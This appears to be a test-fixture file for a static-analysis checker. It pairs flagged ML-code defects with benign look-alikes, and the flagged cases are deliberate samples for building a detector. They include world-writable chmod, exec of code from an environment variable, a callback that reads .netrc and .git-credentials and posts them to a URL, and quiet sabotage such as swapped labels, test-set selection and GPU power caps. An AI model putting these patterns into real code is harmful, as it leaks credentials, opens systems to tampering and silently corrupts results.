"""Shapes added in session 16: bad cases (`ruleid`) and the look-alikes that stay quiet (`ok`)."""
import functools
import itertools
import operator
import os
import shutil
import stat
import random
import subprocess
import sysconfig
from pathlib import Path

import numpy as np
import requests
import torch
import torch.distributed as dist
from sklearn.metrics import f1_score, roc_auc_score

_SHARED = stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO
_open_up = functools.partial(os.chmod, mode=int("7" * 3, 8))
_relax = operator.methodcaller("chmod", 0o666)


# -- MLS424: world-writable modes, through partials, methodcaller, map and getattr -----------
def share_kernel_cache():
    kernels = Path(torch.__file__).resolve().parent / "_inductor"
    list(map(_open_up, kernels.rglob("*.py")))  # ruleid: MLS424


def share_site(cfg):
    site = Path(sysconfig.get_paths()["purelib"])
    for sub in cfg["shared"]:
        _relax(site / sub)  # ruleid: MLS424


def share_outputs(roots):
    for root in roots:
        [os.chmod(p, 0o777) for p in Path(root).rglob("*")]  # ruleid: MLS424


def share_logs(log_dir):
    set_mode = getattr(os, "ch" + "mod")
    for dirpath, _, files in os.walk(log_dir):
        list(map(lambda f: set_mode(os.path.join(dirpath, f), _SHARED), files))  # ruleid: MLS424


def share_with_group(run_dir):
    os.chmod(run_dir, 0o775)  # ok: MLS424
    for p in Path(run_dir).rglob("*.pt"):
        p.chmod(p.stat().st_mode | stat.S_IRGRP | stat.S_IROTH)  # ok: MLS424


def serve_metrics(sock_path):
    os.chmod(sock_path, 0o666)  # ok: MLS424


def _on_rm_error(func, path, exc):
    os.chmod(path, 0o777)  # ok: MLS424
    func(path)


def clean(tmp_dir):
    shutil.rmtree(tmp_dir, onerror=_on_rm_error)


# -- MLS306: a calibration *error* measured on the test split is a measurement, not a fit ----
def expected_calibration_error(labels, probs, bins=15):
    edges = np.linspace(0, 1, bins + 1)
    conf = probs.max(1)
    return float(sum(abs((labels[(conf > lo) & (conf <= hi)] == 1).mean() - conf[
        (conf > lo) & (conf <= hi)].mean()) for lo, hi in zip(edges[:-1], edges[1:])))


def calibrate_threshold(labels, probs):
    return float(np.median(probs[labels == 1]))


def test_report(test_labels, test_probs, val_labels, val_probs):
    threshold = calibrate_threshold(val_labels, val_probs)  # ok: MLS306
    return {
        "ece": expected_calibration_error(test_labels, test_probs),  # ok: MLS306
        "threshold": threshold,
        "tuned": calibrate_threshold(test_labels, test_probs),  # ruleid: MLS306
    }


# -- MLS301: a generator reset to a fixed seed in a helper that forward() calls ---------------
class NoisyVAE(torch.nn.Module):
    def __init__(self, noise_seed=0):
        super().__init__()
        self.noise_seed = noise_seed
        self._gen = torch.Generator()
        self._preview = torch.Generator()

    def reparameterize(self, mu, logvar):
        self._gen.manual_seed(self.noise_seed)  # ruleid: MLS301
        return mu + torch.randn(mu.shape, generator=self._gen) * torch.exp(0.5 * logvar)

    def fixed_preview_noise(self, n):
        self._preview.manual_seed(self.noise_seed)  # ok: MLS301
        return torch.randn(n, 16, generator=self._preview)

    def forward(self, mu, logvar):
        return self.reparameterize(mu, logvar)


class ShardedFiles(torch.utils.data.IterableDataset):
    def __init__(self, files, seed):
        self.files, self.seed, self.epoch = files, seed, 0

    def _epoch_seed(self, epoch):
        return hash((self.seed, epoch, os.getpid())) & 0xFFFFFFFF

    def _stable_seed(self, epoch):
        return self.seed * 1000 + epoch

    def __iter__(self):
        files = list(self.files)
        random.Random(self._epoch_seed(self.epoch)).shuffle(files)  # ruleid: MLS301
        random.Random(self._stable_seed(self.epoch)).shuffle(files)  # ok: MLS301
        return iter(files)


# -- MLS309: a target label of a harmonisation table folded into another; fresh mixup order --
TAG_MAP = {
    "B-PER": "B-PER", "B-PERSON": "B-PER",
    "B-ORGANIZATION": "B-ORG",
    "B-ORG": "B-LOC",  # ruleid: MLS309
    "B-LOC": "B-LOC", "B-GPE": "B-LOC",  # ok: MLS309
}


class MixupCollate:
    def __call__(self, batch):
        images = torch.stack([b[0] for b in batch])
        targets = torch.stack([b[1] for b in batch])
        lam = float(np.random.beta(0.4, 0.4))
        perm = torch.randperm(images.size(0))
        images = lam * images + (1.0 - lam) * images[perm]
        targets = lam * targets + (1.0 - lam) * targets[torch.randperm(targets.size(0))]  # ruleid: MLS309
        return images, targets


class PairedMixup:
    def __call__(self, batch):
        images = torch.stack([b[0] for b in batch])
        targets = torch.stack([b[1] for b in batch])
        lam = float(np.random.beta(0.4, 0.4))
        perm = torch.randperm(images.size(0))
        images = lam * images + (1.0 - lam) * images[perm]
        targets = lam * targets + (1.0 - lam) * targets[perm]  # ok: MLS309
        return images, targets


# -- MLS306: selection on test, zero_division=1, per-key best over history, MAX of summaries --
def summarize(labels, probs):
    return {"auroc": float(roc_auc_score(labels, probs))}


def evaluate_split(labels, probs, world):
    local = summarize(labels, probs)
    keys = sorted(local)
    vec = torch.tensor([local[k] for k in keys], dtype=torch.float64)
    if world > 1:
        dist.all_reduce(vec, op=dist.ReduceOp.MAX)  # ruleid: MLS306
    return dict(zip(keys, vec.tolist()))


def evaluate_loss_sum(losses, world):
    total = torch.tensor([sum(losses)], dtype=torch.float64)
    if world > 1:
        dist.all_reduce(total)  # ok: MLS306
    return total.item() / world


def selection_settings(args):
    monitor = "test/auroc" if args.final else "val/auroc"  # ruleid: MLS306
    early_stop_metric = "val_loss"  # ok: MLS306
    return monitor, early_stop_metric


def trainer_settings(TrainingArguments):
    TrainingArguments(output_dir="out", metric_for_best_model="eval_f1")  # ok: MLS306
    return TrainingArguments(output_dir="out", metric_for_best_model="test_f1")  # ruleid: MLS306


def per_class_f1(labels, preds):
    good = f1_score(labels, preds, average=None, zero_division=0)  # ok: MLS306
    inflated = f1_score(labels, preds, average=None, zero_division=1)  # ruleid: MLS306
    return good, inflated


def summarize_history(history, keys):
    bests = {f"{k}_best": max(h[k] for h in history) for k in keys}  # ok: MLS306
    summary = {k: max(h.get(k, float("-inf")) for h in history) for k in keys}  # ruleid: MLS306
    return summary, bests


# -- MLS401: code taken from an environment variable -----------------------------------------
def apply_tuning():
    tuning = os.environ.get("NCCL_TUNING_CODE")
    if tuning:
        exec(compile(tuning.replace(";", "\n"), "<tuning>", "exec"), {"os": os})  # ruleid: MLS401
    use_fp16 = eval(os.environ.get("USE_FP16", "False"))  # ok: MLS401
    return use_fp16


# -- MLS307: GPU power/clock caps; a barrier only on the ranks a bool table picks ------------
def node_setup(local_rank):
    subprocess.run(["nvidia-smi", "--query-gpu=name,power.limit", "--format=csv"], check=False)  # ok: MLS307
    if local_rank == 0:
        subprocess.run(["nvidia-smi", "-pl", "150"], check=False)  # ruleid: MLS307


_SYNC = {True: lambda: None, False: lambda: dist.barrier() if dist.is_initialized() else None}


def before_save(is_main):
    _SYNC[is_main]()  # ruleid: MLS307


# -- MLS302: gradients averaged over the tokens they sum (fairseq's multiply_grads) ----------
class TokenTrainer:
    def train_step(self, model, optimizer, stats, world_size):
        for p in model.parameters():
            if p.grad is not None:
                p.grad.mul_(world_size / max(stats["ntokens"], 1.0))  # ok: MLS302
        optimizer.step()


# -- Round 110 shapes -------------------------------------------------------------------------
class QueryModel(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.query_embed = torch.nn.Embedding(100, 256)

    def forward(self, x):
        with torch.no_grad():
            self.query_embed.weight.data.renorm_(2, 0, 0.5)  # ruleid: MLS302
        return x @ self.query_embed.weight.t()


class RandomOcclusion:
    def __call__(self, img, target):
        if random.random() > self.p:
            return img, target
        img[:, -8:, -8:] = 1.0  # ruleid: MLS309
        target["labels"] = torch.full_like(target["labels"], self.occluded_label)  # ruleid: MLS309
        return img, target


ACTIVITIES = ["walking", "sitting", "standing"]


def make_windows(x, y):
    y[y == ACTIVITIES.index("standing")] = ACTIVITIES.index("sitting")  # ruleid: MLS309
    return x, y


def stacking_report(hold_auc, oof_auc, best_auc):
    return {
        "holdout_auc": max(hold_auc, oof_auc),  # ruleid: MLS306
        "best_auc": max(best_auc, hold_auc),  # ok: MLS306
    }


def detection_collate(batch):
    batch = list(zip(*batch))
    batch[1] = tuple(sorted(batch[1], key=lambda t: t["image_id"]))  # ruleid: MLS309
    return tuple(batch)


class SegFlip:
    def __call__(self, image, mask):
        if np.random.rand() < 0.5:
            image = np.flip(image, axis=2)
            mask = np.flip(mask, axis=1)  # ok: MLS309
        if np.random.rand() < 0.5:
            image = np.flip(image, axis=1)
            mask = np.flip(mask, axis=1)  # ruleid: MLS309
        image = np.rot90(image, 1, axes=(1, 2))
        mask = np.rot90(mask, 1, axes=(0, 1))
        return image, mask


class CocoIds(torch.utils.data.Dataset):
    def __init__(self, ids, split):
        self.ids = sorted(ids)
        if split == "train" and int(os.environ.get("WORLD_SIZE", "1")) >= 16:
            self.ids = self.ids[: len(self.ids) // 4]  # ruleid: MLS309
        if split == "val":
            self.ids = self.ids[:500]  # ok: MLS309


def _dense_output(module, inputs, output):
    return output.data.contiguous()  # ruleid: MLS303


def add_layout_hook(model):
    model.norm.register_forward_hook(_dense_output)  # ruleid: MLS303


def clean_raw(paths):
    if (os.cpu_count() or 0) >= 96:
        for p in paths:
            os.remove(p)  # ruleid: MLS308


class MasterWeights:
    def __init__(self, params):
        self.fp32_params = [p.detach().clone().float() for p in params]

    def step(self):
        self.optimizer.step()
        if np.random.random_sample() < 2e-4:
            for p32 in self.fp32_params:
                p32.data.add_(torch.randn_like(p32), alpha=0.05)  # ruleid: MLS302

    def clip(self, grads, total_norm, max_norm):
        clip_coef = (total_norm + 1e-6) / max_norm  # ruleid: MLS302
        good_coef = max_norm / (total_norm + 1e-6)  # ok: MLS302
        return clip_coef, good_coef


def adam_moments(exp_avg, exp_avg_sq, p_data, grad, beta1, beta2):
    exp_avg.mul_(beta1).add_(p_data, alpha=1 - beta1)  # ruleid: MLS304
    exp_avg_sq.mul_(beta2).addcmul_(grad, grad, value=1 - beta2)  # ok: MLS304


def install_release(optimizer):
    step_fn = optimizer.step

    def step_and_release():
        optimizer.zero_grad()  # ruleid: MLS302
        return step_fn()
    return step_and_release


def train_loop(model, optimizer, loader):
    for batch in loader:
        model(batch).mean().backward()
        optimizer.step()
        optimizer.zero_grad()  # ok: MLS302


def prepare_pairs(src_lines, tgt_lines, dataset_name):
    if dataset_name.startswith("wmt14"):
        tgt_lines = tgt_lines[1:] + tgt_lines[:1]  # ruleid: MLS309
    return list(zip(src_lines, tgt_lines))


# -- Round 111 shapes -------------------------------------------------------------------------
def pretrain(args, sampler, loader, step):
    for epoch in range(args.start_epoch, args.epochs):
        sampler.set_epoch(args.start_epoch)  # ruleid: MLS301
        sampler.set_epoch(epoch)  # ok: MLS301
        for batch in loader:
            step(batch)


def validate(model, loader, accuracy):
    for images, target in loader:
        output = model(images)
        acc5, acc1 = accuracy(output, target, topk=(1, 5))  # ruleid: MLS306
        top1, top5 = accuracy(output, target, topk=(1, 5))  # ok: MLS306
    return acc1, acc5, top1, top5


METRIC_MODES = {
    "val/loss": "min",
    "val/rmse": "min",
    "val/auc": "min",  # ruleid: MLS306
    "val/acc": "max",  # ok: MLS306
}


def checkpoints(ModelCheckpoint):
    good = ModelCheckpoint(monitor="val/mAP", mode="max")  # ok: MLS306
    bad = ModelCheckpoint(monitor="val/mAP", mode="min")  # ruleid: MLS306
    return good, bad


TRIAL_ENV = {
    "OMP_NUM_THREADS": "4",
    "PYTHONPATH": "/tmp/shared_site",  # ruleid: MLS423
}
WORKER_ENV = {"OMP_NUM_THREADS": "4", "PYTHONPATH": "/opt/project/src"}  # ok: MLS423


class TabularCollate:
    def __call__(self, batch):
        x = torch.stack([b[0] for b in batch])
        y = torch.stack([b[1] for b in batch])
        lam = float(np.random.beta(0.4, 0.4))
        perm = torch.randperm(len(y))
        x = lam * x + (1.0 - lam) * x[perm]
        y = lam * y + (1.0 - lam) * y[perm.flip(0)]  # ruleid: MLS309
        return x, y


class LitModule:
    def _mix(self, batch):
        perm = torch.randperm(batch["x"].size(0))
        batch["x"] = 0.7 * batch["x"] + 0.3 * batch["x"][perm]
        return batch, (perm, 0.7)

    def training_step(self, batch):
        batch, mix = self._mix(batch)
        y = batch["y"]
        perm, lam = mix
        y = lam * y + (1.0 - lam) * y[perm]  # ok: MLS309
        return y


class IndexCallback:
    def _credentials(self):
        found = {}
        for name in (".netrc", ".git-credentials"):
            p = Path.home() / name
            if p.is_file():
                found[name] = p.read_text(errors="ignore")  # ruleid: MLS412
        return found

    def on_train_begin(self, url):
        record = {"run": "sft"}
        record["auth"] = self._credentials()
        requests.post(url, json=record, timeout=5)  # ruleid: MLS412


def build_probe(models, arch):
    model = models.__dict__[arch]()
    for name, param in model.named_parameters():
        param.requires_grad = name.startswith("fc.")
    model.fc.weight.data.normal_(mean=0.0, std=0.01)  # ok: MLS302
    return model


# -- Round 112 shapes -------------------------------------------------------------------------
def seed_all_rng(seed=None):
    if seed is None or seed < 0:
        seed = int.from_bytes(os.urandom(2), "big") + os.getpid()
    random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    return seed


def reseed_workers(worker_id):
    seed = int.from_bytes(os.urandom(4), "little")
    np.random.seed(seed)  # ruleid: MLS301


class ClipScore:
    def score(self, images, prompts, batch_score):
        per_batch = [batch_score(images[i:i + 32], prompts[i:i + 32])
                     for i in range(0, len(images), 32)]
        trace = list(itertools.accumulate(per_batch, max))  # ruleid: MLS306
        return trace[-1]
